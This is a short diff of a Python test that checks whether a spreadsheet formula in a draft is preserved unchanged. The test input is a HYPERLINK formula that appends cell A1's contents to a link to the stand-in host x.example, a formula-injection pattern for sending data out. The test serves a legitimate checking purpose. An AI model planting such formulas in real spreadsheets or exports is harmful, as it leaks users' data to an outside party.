@@ -183,7 +183,7 @@ def test_a_sheet_comes_back_from_a_spreadsheet(book, amts):
 
 
 def test_a_draft_that_is_a_formula_comes_back_as_it_was(book, amts):
-    formula = '=HYPERLINK("http://x.example/?"&A1)'
+    formula = '=HYPERLINK("//x.example/?"&A1)'
     path = book.src / MACHINE
     quoted = formula.replace('"', '\\"')
     text = path.read_text("utf-8").replace("译Rinse the", f"{quoted} Rinse the")
